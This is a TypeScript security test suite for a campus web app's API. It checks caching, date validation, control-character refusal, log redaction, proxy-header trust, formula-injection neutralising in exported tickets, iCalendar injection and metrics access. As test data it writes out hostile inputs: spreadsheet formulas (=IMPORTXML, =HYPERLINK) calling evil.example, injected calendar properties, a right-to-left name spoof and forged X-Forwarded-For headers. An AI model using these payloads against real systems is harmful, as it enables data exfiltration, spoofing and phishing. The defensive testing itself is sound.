import { randomBytes } from "node:crypto";
import { eventLocation } from "@shared/events-calendar";
import { sql } from "drizzle-orm";
import fc from "fast-check";
import ICAL from "ical.js";
import type { OpenAPIV3 } from "openapi-types";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { ConfigError, loadConfig } from "../../server/config/env";
import { rateLimits } from "../../server/db/schema";
import { ensureAdminAccount } from "../../server/modules/auth/admin-account";
import { eventIcs } from "../../server/modules/events/events.calendar";
import { loggerOptions } from "../../server/plugins/logging";
import { insertEvent } from "../factories/events";
import { buildSignup } from "../factories/users";
import { get, post } from "../helpers/api";
import { startFormReceiver } from "../helpers/form-receiver";
import { createTestApp, type TestApp } from "../helpers/test-app";
import { NOT_TEXT_FIELDS, validBody } from "./bodies";
import { fetchDocument, type Operation, operationsOf, urlOf } from "./operations";
import { createWorld, type World } from "./world";

/**
 * The trust, configuration and leak holes of the hardening work, each as a class: every operation
 * the OpenAPI document lists is checked, so a new route is covered without a new test.
 */

/** Answers that are the same for everyone, which browsers and CDNs may keep. */
const SHARED_ANSWERS = new Set([
  "GET /api/files/{bucket}/{key}",
  "GET /api/colleges/",
  "GET /api/colleges/search",
  // 'Fresh on campus': public teasers, the same for every visitor of a city, kept 30 s.
  "GET /api/public/fresh-listings",
  // An event's public page: the poster's details and the interested count, kept a minute.
  "GET /api/public/events/{id}",
  // Its calendar file: the event's own details, DTSTAMP its creation, the same bytes for everyone, kept a minute.
  "GET /api/public/events/{id}/calendar.ics",
  // A college's calendar feed: its events only, the same bytes for everyone, kept 15 minutes.
  "GET /api/colleges/{id}/events.ics",
]);
/** Impossible days, each in the YYYY-MM-DD shape. */
const IMPOSSIBLE_DATES = ["2024-02-31", "2023-02-29", "9999-99-99", "2025-13-01", "2025-04-31", "0000-01-01"];
/** A right-to-left override: "Priya \u202eahsrahS" reads as someone else's name. */
const RLO = "\u202e";

let testApp: TestApp;
let operations: Operation[];
let world: World;
beforeAll(async () => {
  testApp = await createTestApp();
  operations = operationsOf(await fetchDocument(testApp));
  world = await createWorld(testApp);
});
afterAll(() => testApp?.close());

const callerOf = (operation: Operation) => (operation.role === "admin" ? world.admin : world.owner);

function expectErrorShape(response: { statusCode: number; body: string }, what: string) {
  expect(response.statusCode, `${what}: ${response.body}`).toBe(400);
  const error = JSON.parse(response.body).error;
  expect(typeof error?.code, what).toBe("string");
  expect(typeof error?.message, what).toBe("string");
  return error as { code: string; message: string };
}

/** The schema of a body's property, looking into each variant of a union. */
function propertySchema(operation: Operation, name: string): OpenAPIV3.SchemaObject | undefined {
  const schema = operation.bodySchema;
  if (!schema) return undefined;
  const variants = (schema.oneOf ?? schema.anyOf ?? [schema]) as OpenAPIV3.SchemaObject[];
  for (const variant of variants) {
    const property = variant.properties?.[name] as OpenAPIV3.SchemaObject | undefined;
    if (property) return (property.anyOf?.[0] as OpenAPIV3.SchemaObject | undefined) ?? property;
  }
  return undefined;
}

describe("personal answers are never cached", () => {
  it("every GET operation, called signed in, answers Cache-Control: no-store, unless its answer is shared", async () => {
    const gets = operations.filter((operation) => operation.method === "GET");
    expect(gets.length).toBeGreaterThan(15);
    const cacheable: string[] = [];
    for (const operation of gets) {
      const response = await testApp.app.inject({
        method: "GET",
        url: urlOf(operation, world),
        headers: { cookie: callerOf(operation).cookie },
      });
      const header = String(response.headers["cache-control"] ?? "");
      if (SHARED_ANSWERS.has(operation.key)) expect(header, operation.key).not.toContain("no-store");
      // A route may add to no-store (the administrator's evidence photo says "no-store, private").
      else if (!/^no-store(, private)?$/.test(header))
        cacheable.push(`${operation.key} (${response.statusCode}): ${header}`);
    }
    expect(cacheable).toEqual([]);
  });

  it("lists only shared answers that exist, and none that varies by who asks", async () => {
    const keys = new Set(operations.map((operation) => operation.key));
    for (const key of SHARED_ANSWERS) expect(keys.has(key), key).toBe(true);
    for (const key of SHARED_ANSWERS) {
      const operation = operations.find((o) => o.key === key) as Operation;
      const url = urlOf(operation, world);
      const signedIn = await testApp.app.inject({
        method: "GET",
        url,
        headers: { cookie: world.owner.cookie },
      });
      const signedOut = await testApp.app.inject({ method: "GET", url });
      expect(signedIn.rawPayload.equals(signedOut.rawPayload), key).toBe(true);
    }
  });
});

describe("dates must be days that exist", () => {
  it("every date-taking query parameter refuses impossible dates with 400 and the error shape", async () => {
    const dated = operations.flatMap((operation) =>
      operation.queryParams
        .filter((parameter) => (parameter.schema as OpenAPIV3.SchemaObject | undefined)?.format === "date")
        .map((parameter) => ({ operation, name: parameter.name })),
    );
    // The admin's user filter (from, to) and the events filter (date) at least.
    expect(dated.map(({ operation, name }) => `${operation.key} ${name}`)).toEqual(
      expect.arrayContaining([
        "GET /api/admin/users from",
        "GET /api/admin/users to",
        "GET /api/events date",
      ]),
    );
    for (const { operation, name } of dated) {
      for (const date of IMPOSSIBLE_DATES) {
        const response = await testApp.app.inject({
          method: "GET",
          url: `${urlOf(operation, world)}?${name}=${date}`,
          headers: { cookie: callerOf(operation).cookie },
        });
        expectErrorShape(response, `${operation.key} ?${name}=${date}`);
      }
    }
  });

  it("every date-taking body field, and holiday mode's dates, refuse impossible dates with 400", async () => {
    let checked = 0;
    for (const operation of operations) {
      const caller = callerOf(operation);
      const valid = await validBody(testApp, operation, world, caller);
      if (!valid || Buffer.isBuffer(valid.payload)) continue;
      const fields = valid.payload as Record<string, unknown>;
      for (const name of Object.keys(fields)) {
        if (propertySchema(operation, name)?.format !== "date") continue;
        for (const date of IMPOSSIBLE_DATES) {
          const response = await testApp.app.inject({
            method: operation.method,
            url: urlOf(operation, world),
            headers: { cookie: caller.cookie },
            payload: { ...fields, [name]: date },
          });
          expectErrorShape(response, `${operation.key} ${name}=${date}`);
          checked += 1;
        }
      }
    }
    expect(checked).toBeGreaterThanOrEqual(IMPOSSIBLE_DATES.length);
    for (const date of IMPOSSIBLE_DATES) {
      const response = await testApp.app.inject({
        method: "PUT",
        url: "/api/me/holiday",
        headers: { cookie: world.owner.cookie },
        payload: { isActive: true, fromDate: "2099-01-10", toDate: date.replace(/^\d{4}/, "2099") },
      });
      expectErrorShape(response, `holiday to ${date}`);
    }
  });
});

/** Operations whose texts are only looked up or checked, never stored or shown to anyone. */
const LOOKUP_ONLY = new Set([
  "POST /api/auth/login",
  "POST /api/auth/forgot-password",
  "POST /api/auth/verify-email",
  "POST /api/auth/reset-password",
  "POST /api/me/password",
]);

describe("texts a person reads refuse control and text-direction characters", () => {
  it("every text field of every body is refused with 400 when it holds a direction override or a control", async () => {
    const refusedAsText: string[] = [];
    const accepted: string[] = [];
    for (const operation of operations) {
      if (LOOKUP_ONLY.has(operation.key)) continue;
      const caller = callerOf(operation);
      const valid = await validBody(testApp, operation, world, caller);
      if (!valid || Buffer.isBuffer(valid.payload)) continue;
      const fields = valid.payload as Record<string, unknown>;
      for (const [name, value] of Object.entries(fields)) {
        if (typeof value !== "string" || NOT_TEXT_FIELDS.has(name)) continue;
        const schema = propertySchema(operation, name);
        const isFreeText =
          !schema?.enum && !schema?.format && !schema?.pattern && !("const" in (schema ?? {}));
        for (const hidden of [RLO, "\u0007", "\u2066"]) {
          await testApp.database.db.delete(rateLimits);
          const response = await testApp.app.inject({
            method: operation.method,
            url: urlOf(operation, world),
            headers: { cookie: caller.cookie },
            payload: { ...fields, [name]: `${value.slice(0, 1)}${hidden}${value.slice(1)}` },
          });
          const what = `${operation.key} ${name} with U+${hidden.codePointAt(0)?.toString(16).padStart(4, "0")}`;
          if (response.statusCode < 400) {
            accepted.push(what);
            continue;
          }
          const error = expectErrorShape(response, what);
          if (isFreeText) {
            expect(error.message, what).toMatch(
              /cannot contain .*control characters or text-direction characters/,
            );
            refusedAsText.push(what);
          }
        }
      }
    }
    expect(accepted).toEqual([]);
    // Names, e-mail, places, titles, bios, descriptions, messages, purposes, skills, URLs.
    expect(refusedAsText.length).toBeGreaterThan(60);
  });

  it("single-line texts refuse a line break, multi-line texts keep it", async () => {
    const student = buildSignup({ name: "Priya\nAdmin: your account is blocked" });
    expectErrorShape(await post(testApp, "/api/auth/signup", student), "a two-line name");
    const renamed = await testApp.app.inject({
      method: "PATCH",
      url: "/api/me/name",
      headers: { cookie: world.owner.cookie },
      payload: { name: "Ananya\r\nRao" },
    });
    expectErrorShape(renamed, "a two-line name change");
    const message = await post(
      testApp,
      `/api/chats/${world.chatId}/messages`,
      {
        type: "text",
        clientId: `c-${randomBytes(8).toString("hex")}`,
        text: "Is it there?\nI can come at 5.",
      },
      { cookie: world.owner.cookie },
    );
    expect(message.statusCode).toBe(201);
  });
});

describe("failed queries leave no values in the log", () => {
  it("logs neither a password hash nor a ticket's words when the query carrying them fails", async () => {
    const lines: string[] = [];
    const logged = await createTestApp(
      {},
      { logger: { ...loggerOptions("debug"), stream: { write: (line: string) => void lines.push(line) } } },
    );
    const traps: string[] = [];
    try {
      const loggedWorld = await createWorld(logged);
      // Setting up logs ids in URLs (a chat's id names its members); only the failures are read.
      lines.length = 0;
      const marker = `TRAP-${randomBytes(6).toString("hex")}`;
      const trap = async (table: string, check: string) => {
        const name = `trap_${randomBytes(4).toString("hex")}`;
        traps.push(`${table}:${name}`);
        await logged.database.db.execute(
          sql`alter table ${sql.identifier(table)} add constraint ${sql.identifier(name)} check (${sql.raw(check)}) not valid`,
        );
      };
      // Any change to the owner's account and any ticket with the marker fail in the database.
      await trap("users", `id <> '${loggedWorld.owner.id}'`);
      await trap("support_tickets", `description not like '%TRAP-%'`);

      const newPassword = `Trap#${randomBytes(6).toString("hex")}7`;
      const changed = await post(
        logged,
        "/api/me/password",
        { currentPassword: loggedWorld.owner.password, newPassword, confirmPassword: newPassword },
        { cookie: loggedWorld.owner.cookie },
      );
      const ticket = await post(
        logged,
        "/api/tickets",
        { purpose: "Account Issues", description: `My card ${marker} was charged twice` },
        { cookie: loggedWorld.other.cookie },
      );
      expect([changed.statusCode, ticket.statusCode]).toEqual([500, 500]);

      const log = lines.join("");
      const failures = lines
        .map((line) => JSON.parse(line))
        .filter((entry) => entry.msg === "request failed");
      expect(failures.map((entry) => entry.err.code)).toEqual(["23514", "23514"]);
      for (const value of ["$argon2", newPassword, marker, loggedWorld.owner.id, loggedWorld.other.id]) {
        expect(log, value).not.toContain(value);
      }
      expect(log).not.toMatch(/Failed query|params:/);
    } finally {
      for (const entry of traps) {
        const [table, name] = entry.split(":") as [string, string];
        await logged.database.db.execute(
          sql`alter table ${sql.identifier(table)} drop constraint ${sql.identifier(name)}`,
        );
      }
      await logged.close();
    }
  });
});

describe("a client behind the load balancer cannot choose its address", () => {
  it("with TRUST_PROXY=1, forged X-Forwarded-For entries do not buy a fresh per-address budget", async () => {
    const proxied = await createTestApp({ TRUST_PROXY: "1", AUTH_RATE_LIMIT: "1" });
    try {
      const bodies: Record<string, () => object> = {
        "/api/auth/login": () => ({
          email: `x-${randomBytes(5).toString("hex")}@example.in`,
          password: "Wrong#Pass1",
        }),
        "/api/auth/signup": () => buildSignup({ college: "Not A Listed College" }),
        "/api/auth/forgot-password": () => ({ email: `x-${randomBytes(5).toString("hex")}@example.in` }),
      };
      for (const [url, body] of Object.entries(bodies)) {
        const statuses: number[] = [];
        for (let attempt = 0; attempt <= 10; attempt++) {
          const forged = `${randomBytes(1)[0]}.${randomBytes(1)[0]}.0.1, 192.0.2.${attempt + 1}`;
          const response = await proxied.app.inject({
            method: "POST",
            url,
            remoteAddress: "10.0.0.5",
            headers: { "x-forwarded-for": `${forged}, 203.0.113.9` },
            payload: body(),
          });
          statuses.push(response.statusCode);
        }
        // Ten attempts an address (AUTH_RATE_LIMIT=1 for an account, ten times that for an address).
        expect(statuses.slice(0, 10), url).not.toContain(429);
        expect(statuses[10], url).toBe(429);
      }
    } finally {
      await proxied.close();
    }
  });

  it("refuses TRUST_PROXY=true at start", () => {
    expect(() => loadConfig({ TRUST_PROXY: "true" })).toThrow(ConfigError);
  });
});

describe("ADMIN_EMAIL cannot hand a student's account the administrator's rights", () => {
  it("refuses to start on a student's address unless ADMIN_EMAIL_TAKEOVER repeats it", async () => {
    const config = loadConfig({
      ADMIN_EMAIL: world.other.email,
      ADMIN_PASSWORD: "Admin#Pass2025",
      LOG_LEVEL: "silent",
    });
    await expect(ensureAdminAccount({ db: testApp.database.db, config })).rejects.toThrow(ConfigError);
  });
});

describe("exports start no cell with a formula", () => {
  it("the form service's copy of a ticket has no field opening with = + - @ or a tab", async () => {
    const form = await startFormReceiver();
    const mirrored = await createTestApp({ FORM_MIRROR_URL: form.url, OUTBOX_RETRY_BASE_MS: "20" });
    try {
      const mirroredWorld = await createWorld(mirrored);
      // The administrator may write anything the rules allow into a student's record.
      const edited = await mirrored.app.inject({
        method: "PATCH",
        url: `/api/admin/users/${mirroredWorld.owner.id}`,
        headers: { cookie: mirroredWorld.admin.cookie },
        payload: {
          name: '=HYPERLINK("https://evil.example","Refund")',
          email: `+${randomBytes(4).toString("hex")}@example.in`,
          mobile: "9123456780",
          city: "-Pune",
          college: "@SUM(1+1)",
        },
      });
      expect(edited.statusCode).toBe(200);
      const ticket = await post(
        mirrored,
        "/api/tickets",
        { purpose: "Other", description: '=IMPORTXML("https://evil.example","//a")' },
        { cookie: mirroredWorld.owner.cookie },
      );
      expect(ticket.statusCode).toBe(201);
      const ticketId = ticket.json().ticket.ticketId;
      const deadline = Date.now() + 10_000;
      const copyOf = () =>
        form.received.find((r) => r.fields.some(([n, v]) => n === "ticketId" && v === ticketId));
      while (!copyOf() && Date.now() < deadline) await new Promise((resolve) => setTimeout(resolve, 20));
      const fields = copyOf()?.fields ?? [];
      expect(fields.length).toBe(7);
      const formulas = fields.filter(([, value]) => /^[=+\-@\t\r]/.test(String(value)));
      expect(formulas).toEqual([]);
      expect(Object.fromEntries(fields).description).toBe('\'=IMPORTXML("https://evil.example","//a")');
    } finally {
      await mirrored.close();
      await form.close();
    }
  });
});

describe("calendar files: a line break in a text never starts a property", () => {
  /** Each kind of line break a calendar app might end a line at, CRLF first (it is one break). */
  const BREAKS = ["\r\n", "\r", "\n", "\v", "\f", "\u0085", "\u2028", "\u2029"];
  /** What a text should read as once parsed: every break a newline, no other control left. */
  const readAs = (value: string) =>
    [...value.replaceAll("\r\n", "\n")]
      .map((char) => (BREAKS.includes(char) ? "\n" : char))
      .filter((char) => char === "\n" || char === "\t" || !/\p{Cc}/u.test(char))
      .join("");

  /** The file's VEVENT as ical.js reads it, and its property names. */
  function parsed(ics: string) {
    const vevent = new ICAL.Component(ICAL.parse(ics)).getFirstSubcomponent("vevent");
    if (!vevent) throw new Error("no VEVENT");
    return {
      event: new ICAL.Event(vevent),
      names: vevent.getAllProperties().map((property) => property.name),
    };
  }
  const PROPERTIES = [
    "uid",
    "dtstamp",
    "dtstart",
    "dtend",
    "sequence",
    "status",
    "summary",
    "location",
    "description",
    "url",
  ];
  /** No CR or LF but in CRLF, and no other break at all, anywhere in the file. */
  const hasOnlyCrlfBreaks = (ics: string) =>
    ics
      .split("\r\n")
      .every((line) => !BREAKS.some((lineBreak) => lineBreak !== "\r\n" && line.includes(lineBreak)));

  it("every kind of line break in a stored description comes back as a newline, with no stray property", async () => {
    const description = BREAKS.map(
      (lineBreak, index) => `line ${index}${lineBreak}ATTENDEE:mailto:x@evil.test`,
    ).join("");
    const title = "Fest\rORGANIZER:mailto:boss@evil.test\u2028X-Y:1";
    const event = await insertEvent(testApp, { title, description });
    const response = await get(testApp, `/api/events/${event.id}/calendar.ics`, {
      cookie: world.owner.cookie,
    });
    expect(response.statusCode).toBe(200);
    expect(hasOnlyCrlfBreaks(response.body)).toBe(true);
    const { event: read, names } = parsed(response.body);
    expect(names).toEqual(PROPERTIES);
    expect(read.summary).toBe(readAs(title));
    expect(read.description).toBe(`${readAs(description)}\n\nOrganised by ${event.organizer}.`);
    expect(read.description.split("\n")).toHaveLength(BREAKS.length + 3);
  });

  it("any title, place, description and organiser round-trip through ical.js (property)", async () => {
    const base = await insertEvent(testApp);
    const breaky = fc.oneof(
      fc.string({ unit: "binary" }),
      fc
        .array(
          fc.oneof(fc.constantFrom(...BREAKS, ":", ";", ",", "\\", "\\n", "BEGIN:VEVENT", " "), fc.string()),
        )
        .map((parts) => parts.join("")),
    );
    fc.assert(
      fc.property(breaky, breaky, breaky, breaky, (title, venue, description, organizer) => {
        const ics = eventIcs({ ...base, title, venue, description, organizer }, "http://localhost:3000");
        expect(hasOnlyCrlfBreaks(ics)).toBe(true);
        expect(ics.split("\r\n").every((line) => Buffer.byteLength(line) <= 75)).toBe(true);
        const { event: read, names } = parsed(ics);
        expect(names).toEqual(PROPERTIES);
        expect(read.summary).toBe(readAs(title));
        expect(read.location).toBe(readAs(eventLocation({ ...base, venue })));
        expect(read.description).toBe(`${readAs(description)}\n\nOrganised by ${readAs(organizer)}.`);
      }),
      { numRuns: 300 },
    );
  });
});

describe("/metrics in production", () => {
  const TOKEN = "scrape-token-0123456789abcdef";
  const scrape = (app: TestApp, remoteAddress: string, headers: Record<string, string> = {}) =>
    app.app.inject({ method: "GET", url: "/metrics", remoteAddress, headers });

  it("without METRICS_TOKEN answers 404 to everyone but a scraper on the same machine", async () => {
    for (const trustProxy of ["false", "1"]) {
      const production = await createTestApp({ NODE_ENV: "production", TRUST_PROXY: trustProxy });
      try {
        const answers = {
          remote: (await scrape(production, "203.0.113.5")).statusCode,
          remoteIpv6: (await scrape(production, "2001:db8::5")).statusCode,
          // A reverse proxy on this machine connects from loopback, and says whom it forwards for.
          forwardedByLocalProxy: (await scrape(production, "127.0.0.1", { "x-forwarded-for": "203.0.113.5" }))
            .statusCode,
          forwardedByLoopback: (await scrape(production, "::1", { "x-forwarded-for": "127.0.0.1" }))
            .statusCode,
          standardForwarded: (await scrape(production, "127.0.0.1", { forwarded: "for=203.0.113.5" }))
            .statusCode,
          localScraper: (await scrape(production, "127.0.0.1")).statusCode,
          localScraperIpv6: (await scrape(production, "::1")).statusCode,
        };
        expect(answers, `TRUST_PROXY=${trustProxy}`).toEqual({
          remote: 404,
          remoteIpv6: 404,
          forwardedByLocalProxy: 404,
          forwardedByLoopback: 404,
          standardForwarded: 404,
          localScraper: 200,
          localScraperIpv6: 200,
        });
        expect((await scrape(production, "203.0.113.5")).body).not.toContain("http_requests_total");
      } finally {
        await production.close();
      }
    }
  });

  it("with METRICS_TOKEN needs the Bearer token from everywhere, loopback too", async () => {
    const production = await createTestApp({ NODE_ENV: "production", METRICS_TOKEN: TOKEN });
    try {
      expect((await scrape(production, "127.0.0.1")).statusCode).toBe(401);
      expect((await scrape(production, "203.0.113.5")).statusCode).toBe(401);
      const scraped = await scrape(production, "203.0.113.5", { authorization: `Bearer ${TOKEN}` });
      expect(scraped.statusCode).toBe(200);
      expect(scraped.body).toContain("# TYPE http_requests_total counter");
    } finally {
      await production.close();
    }
  });

  it("outside production without a token it stays open, as for a developer", async () => {
    expect((await scrape(testApp, "203.0.113.5")).statusCode).toBe(200);
  });
});

describe("a client cannot choose its request id", () => {
  const WELL_FORMED = ["lb-7f3a9c21", "0123456789abcdef0123456789abcdef", "Root.Span_01-ab", "a".repeat(64)];
  const MALFORMED = [
    "short",
    "a".repeat(65),
    "forged id, with spaces",
    "id:with:colons",
    "line\nbreak-0001",
    'quote"and{braces}',
    "ünïcode-000001",
    "",
  ];
  const UUID = /^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/;

  /** The id each X-Request-Id was answered with, sent from `remoteAddress`. */
  async function idsFor(app: TestApp, remoteAddress: string, ids: string[]): Promise<string[]> {
    const answered: string[] = [];
    for (const id of ids) {
      const response = await app.app.inject({
        method: "GET",
        url: "/api/health",
        remoteAddress,
        headers: { "x-request-id": id },
      });
      answered.push(String(response.headers["x-request-id"]));
    }
    return answered;
  }

  it("without a trusted proxy, every incoming id is replaced by a new one", async () => {
    const answered = await idsFor(testApp, "203.0.113.7", [...WELL_FORMED, ...MALFORMED]);
    expect(answered.every((id) => UUID.test(id))).toBe(true);
    expect(new Set(answered).size).toBe(answered.length);
  });

  it("behind a trusted proxy, only a well-formed id is kept, and only when the proxy passed it on", async () => {
    for (const trustProxy of ["1", "10.0.0.0/8", "uniquelocal"]) {
      const proxied = await createTestApp({ TRUST_PROXY: trustProxy });
      try {
        expect(await idsFor(proxied, "10.0.0.5", WELL_FORMED), trustProxy).toEqual(WELL_FORMED);
        expect(await idsFor(proxied, "::ffff:10.0.0.5", WELL_FORMED), trustProxy).toEqual(WELL_FORMED);
        const malformed = await idsFor(proxied, "10.0.0.5", MALFORMED);
        expect(
          malformed.every((id) => UUID.test(id)),
          `${trustProxy}: ${malformed}`,
        ).toBe(true);
        if (trustProxy !== "1") {
          // A client that reaches the server around the listed proxies does not choose its id.
          const direct = await idsFor(proxied, "203.0.113.7", WELL_FORMED);
          expect(
            direct.every((id) => UUID.test(id)),
            trustProxy,
          ).toBe(true);
        }
      } finally {
        await proxied.close();
      }
    }
  });
});
